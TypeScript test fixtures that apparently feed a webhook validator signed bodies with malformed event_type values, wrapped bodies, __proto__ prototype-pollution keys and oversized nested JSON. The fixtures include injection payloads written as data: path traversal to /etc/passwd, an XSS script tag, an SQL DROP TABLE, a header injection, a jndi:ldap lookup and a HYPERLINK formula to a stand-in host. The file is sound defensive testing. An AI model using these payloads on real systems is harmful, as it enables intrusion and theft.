/** Bodies with a valid signature, whose content is invalid or looks invalid. */
import type { Json } from '../../wire/json.ts'
import type { Forge, Rows } from './forge.ts'

export const eventTypes = ({ signed, ledBy, followedBy, next }: Forge): Rows => {
  const typed = (event_type: Json | undefined): string => signed({ event_type })
  const literal = (json: string): string =>
    followedBy(`"event_type":${json}`, { event_type: undefined })
  const ended = (event_type: Json): string => signed({ event_type, sequence: next() })
  return {
    EventTypeInvalid: {
      'no event_type': typed(undefined),
      'an event_type under a name in capitals': signed({ event_type: undefined, Event_Type: 1 }),
      'an event_type of null': typed(null),
      'an empty event_type': typed(''),
      'an event_type of true': typed(true),
      'an event_type in an array': typed([1]),
      'an event_type in an object': typed({ $eq: 1 }),
      'an event_type of -1': typed(-1),
      'an event_type of negative zero': literal('-0'),
      'an event_type of negative zero in quotes': typed('-0'),
      'an event_type with a fraction': typed(1.5),
      'an event_type of 2^53': typed(2 ** 53),
      'an event_type that is too large for a number (1e400)': literal('1e400'),
      'an event_type in hexadecimal digits': typed('0x1'),
      'an event_type with an exponent in quotes': typed('1e0'),
      'an event_type with a fraction of zero in quotes': typed('1.0'),
      'an event_type with a zero before it': typed('01'),
      'an event_type with a plus sign': typed('+1'),
      'an event_type with a blank before it': typed(' 1'),
      'an event_type with a line break behind it': typed('1\n'),
      'an event_type with the n of a bigint': typed('1n'),
      'an event_type in full-width digits': typed('１'),
      'an event_type in Arabic digits': typed('١'),
      'an event_type of 100,000 digits': typed('1'.repeat(100_000)),
      'an event_type of NaN in quotes': typed('NaN'),
      'an event_type that is the name of the event': typed('StreamBegin'),
      "an event_type of 'unknown'": typed('unknown'),
      'an event_type of __proto__': typed('__proto__'),
      'an event_type of constructor': typed('constructor'),
      'an event_type of toString': typed('toString'),
      'a valid event_type first, and null after it': followedBy('"event_type":null'),
      'a body inside another': signed({ event_type: undefined, body: { event_type: 1 } }),
    },
    accepted: {
      'an event_type of 0 (StreamEnd)': ended(0),
      'an event_type of 0 in quotes': ended('0'),
      'an event_type in quotes': typed('1'),
      'an event_type with a fraction of zero': literal('1.0'),
      'an event_type with an exponent': literal('1e0'),
      'a repeated event_type': ledBy('"event_type":0'),
      'an unknown event_type': typed(9999),
      'an event_type of 2^53 - 1': typed(2 ** 53 - 1),
    },
  }
}

export const wrapped = ({ unsigned, signed, next }: Forge): Rows => {
  const parse = (text: string): Record<string, Json> => JSON.parse(text) as Record<string, Json>
  const wrap = (data: Json, others: object = {}): string => JSON.stringify({ data, ...others })
  const begin = parse(signed())
  const { t, sign } = parse(signed())
  const streamLive = () => parse(signed({ input_id: next() }, 'StreamLiveBegin'))
  const unsignedStreamLive = parse(unsigned({}, 'StreamLiveBegin'))
  return {
    SignatureMissing: {
      'a whole body in a field': wrap(begin),
      'a whole body as text in a field beside another': wrap(JSON.stringify(streamLive()), {
        a: 1,
      }),
      'a whole body in an array in a field': wrap([streamLive()]),
      'a whole body two fields down': wrap({ data: streamLive() }),
      'a signed body in a field beside an event_type without a sign': wrap(streamLive(), {
        event_type: 329,
      }),
      'an unsigned body in a field beside a good sign': wrap(unsignedStreamLive, { t, sign }),
    },
    EventTypeInvalid: {
      'a signed body in a field beside a good sign': wrap(begin, { t, sign }),
    },
    accepted: {
      'a whole body in a field, as text': wrap(JSON.stringify(streamLive())),
      'a StreamLive body in the field data, as documented': wrap(streamLive()),
      'a StreamLive body in the field data, beside a forged sign that is ignored': wrap(
        streamLive(),
        { t, sign: '0'.repeat(32) },
      ),
      'a body beside another in a field': signed({ data: streamLive() }),
    },
  }
}

// Written as JSON text, since `__proto__` in an object literal sets the prototype.
const proto = (value: string): string => `{"__proto__":${value}}`

const evil = '{"polluted":true,"event_type":0,"stream_id":"evil-stream"}'

export const prototypes = (forge: Forge): Rows => {
  const { signed, unsigned, ledBy, followedBy, next } = forge
  const seq = () => ({ seq: next() })
  return {
    SignatureMissing: {
      'a whole body under __proto__': proto(signed()),
      'sign and t under __proto__': `${unsigned().slice(0, -1)},${proto(signed()).slice(1)}`,
    },
    EventTypeInvalid: {
      'an event_type under __proto__': followedBy(`"__proto__":${evil}`, {
        event_type: undefined,
      }),
    },
    EventInvalid: {
      'a stream_id under __proto__': followedBy(`"__proto__":${evil}`, {
        stream_id: undefined,
      }),
    },
    accepted: {
      '__proto__ before the other fields': ledBy(`"__proto__":${evil}`),
      '__proto__ after the other fields': followedBy(`"__proto__":${evil}`),
      'a __proto__ of null': followedBy('"__proto__":null'),
      '__proto__ written with JSON escapes': followedBy(`"\\u005f_proto__":${evil}`),
      '__proto__ in an unknown field': followedBy(`"x":${proto(evil)}`),
      '__proto__ in an item of a list': followedBy(
        `"abnormal_event":[{"type":6,"__proto__":${evil},"detail":[${proto(evil)}]}]`,
        {},
        'PushException',
      ),
      '__proto__ in the JSON text of msg': signed({ msg: proto(evil) }, 'TaskStart'),
      '__proto__ in JSON text that is not decoded': signed({ msg: proto(evil) }, 'ResetTaskConfig'),
      '__proto__ in the JSON text of record_detail': signed(
        { ...seq(), record_detail: proto(evil) },
        'RecordStatus',
      ),
      '__proto__ in a record_detail that is an object': followedBy(
        `"record_detail":${proto(evil)}`,
        seq(),
        'RecordStatus',
      ),
      'a constructor.prototype': followedBy(`"constructor":{"prototype":${evil}}`),
      'fields with the names of Object.prototype': signed({
        toString: 'text',
        valueOf: 1,
        hasOwnProperty: null,
        isPrototypeOf: [],
        propertyIsEnumerable: {},
        __defineGetter__: 'text',
        __lookupGetter__: 'text',
      }),
      'fields with the names of promises, arrays and errors': signed({
        then: 'text',
        catch: 'text',
        length: 1_000_000,
        message: 'text',
        stack: 'text',
        toJSON: 'text',
      }),
      'a relay event called constructor': signed({ callback_event: 'constructor' }, 'Relay'),
      'a relay event called __proto__': signed({ callback_event: '__proto__' }, 'Relay'),
      'a relay event called toString': signed({ callback_event: 'toString' }, 'Relay'),
      'a relay event called unknown': signed({ callback_event: 'unknown' }, 'Relay'),
    },
  }
}

export const shapes = (forge: Forge): Rows => {
  const { signed, followedBy, next } = forge
  const status = (fields: Record<string, Json | undefined>): string =>
    signed({ seq: next(), ...fields }, 'RecordStatus')
  return {
    EventInvalid: {
      'no stream_id': signed({ stream_id: undefined }),
      'a stream_id of null': signed({ stream_id: null }),
      'a stream_id in an array': signed({ stream_id: ['hostile-stream'] }),
      'a stream_id in an object': signed({ stream_id: { $ne: null } }),
      'a stream_id of true': signed({ stream_id: true }),
      'a stream_id that is a number of 2^53': signed({ stream_id: 2 ** 53 }),
      'a recording event without record_event': status({ record_event: undefined }),
      'a relay event without callback_event': signed({ callback_event: undefined }, 'Relay'),
      'a relay event whose callback_event is an object': signed({ callback_event: {} }, 'Relay'),
    },
    accepted: {
      'unknown fields': signed({ new_field: [1, { a: null }], 'another field': '' }),
      'a field whose name is empty': signed({ '': 'text' }),
      'names with a NUL, a line break and a lone surrogate': followedBy(
        String.raw`"a\u0000b":1,"a\nb":1,"\ud800":1`,
      ),
      'names that are numbers': signed({ 0: 'text', 4294967295: 'text', '-1': 'text' }),
      'an empty stream_id': signed({ stream_id: '' }),
      'a stream_id that is a number': signed({ stream_id: 42 }),
      'an empty stream_param': signed({ stream_param: '' }),
      'digits beyond 2^53': signed({ sequence: `${2n ** 64n}${next()}` }),
      'a lone surrogate in a string': followedBy(String.raw`"errmsg":"\ud83d"`),
      'surrogates in reverse order': followedBy(String.raw`"errmsg":"\ude00\ud83d"`),
      'a NUL in a stream_id': signed({ stream_id: 'hostile\0stream' }),
      'an HTTP header injection in a stream_id': signed({
        stream_id: 'hostile\r\nSet-Cookie: a=b\r\n\r\n',
      }),
      'terminal escape sequences in a stream_id': signed({
        stream_id: '\u001b[2J\u001b]0;x\u0007',
      }),
      'a right-to-left override in a stream_id': signed({ stream_id: '\u202emaerts' }),
      'a path in a stream_id': signed({ stream_id: '../../../../etc/passwd' }),
      'a script in a stream_id': signed({ stream_id: '"><script>alert(1)</script>' }),
      'SQL in a stream_id': signed({ stream_id: "'; DROP TABLE rooms; --" }),
      'template expressions in a stream_id': signed({
        stream_id: '${jndi:ldap://192.0.2.1/x}{{7*7}}%s%n',
      }),
      'a spreadsheet formula in a stream_id': signed({
        stream_id: '=HYPERLINK("http://192.0.2.1/")',
      }),
      'broken JSON in msg': signed({ msg: '{"task_start_time":' }, 'TaskStart'),
      'the JSON of an array in msg': signed({ msg: '[]' }, 'TaskStart'),
      'a msg whose fields are invalid': signed({ msg: '{"task_start_time":"words"}' }, 'TaskStart'),
      'a msg that is an object instead of JSON text': signed({ msg: { a: [] } }, 'TaskStart'),
      'broken JSON in source_urls': signed({ source_urls: '["http://' }, 'TaskStart'),
      'broken JSON in record_detail': status({ record_detail: 'hostile-words' }),
      'a number in record_detail': status({ record_detail: 7 }),
    },
  }
}

const MEGABYTE = 1024 * 1024
const nested = (depth: number): string => '['.repeat(depth) + ']'.repeat(depth)
const many = (count: number, part: (index: number) => string): string =>
  Array.from({ length: count }, (_, index) => part(index)).join()

export const sizes = (forge: Forge): Rows => {
  const { signed, followedBy, next } = forge
  const room = MEGABYTE - 1000
  const event = (items: string): string =>
    followedBy(`"abnormal_event":[${items}]`, {}, 'PushException')
  return {
    BodyTooLarge: {
      'one byte more than 1 MiB': signed().padEnd(MEGABYTE + 1),
      'fewer characters than 1 MiB, but more bytes': signed({
        errmsg: '直'.repeat(400_000),
      }),
    },
    BodyNotJson: {
      '1 MiB of blanks': ' '.repeat(MEGABYTE),
      '1 MiB of NULs': '\0'.repeat(MEGABYTE),
      '1 MiB of quotes': '"'.repeat(MEGABYTE),
    },
    accepted: {
      'exactly 1 MiB': signed().padEnd(MEGABYTE),
      '1 MiB in one string': signed({ errmsg: 'x'.repeat(room) }),
      '1 MiB in a stream_id': signed({ stream_id: 'x'.repeat(room) }),
      '1 MiB in the name of a field': followedBy(`"${'x'.repeat(room)}":1`),
      '100,000 fields': followedBy(many(100_000, (index) => `"x${index.toString(36)}":1`)),
      '90,000 fields whose names are numbers': followedBy(
        many(90_000, (index) => `"${index * 7}":1`),
      ),
      'a field that is repeated 100,000 times': followedBy(many(100_000, () => '"a":1')),
      'a list of 100,000 empty objects': event(many(100_000, () => '{}')),
      '400,000 nested arrays in an unknown field': followedBy(`"x":${nested(400_000)}`),
      '100,000 nested objects in an unknown field': followedBy(
        `"x":${'{"a":'.repeat(100_000)}1${'}'.repeat(100_000)}`,
      ),
      '400,000 nested arrays in the JSON text of msg': signed(
        { msg: nested(400_000) },
        'TaskStart',
      ),
      '400,000 nested arrays in the JSON text of record_detail': signed(
        { seq: next(), record_detail: nested(400_000) },
        'RecordStatus',
      ),
      '300,000 backslashes in msg': signed({ msg: '\\"'.repeat(150_000) }, 'TaskStart'),
    },
  }
}
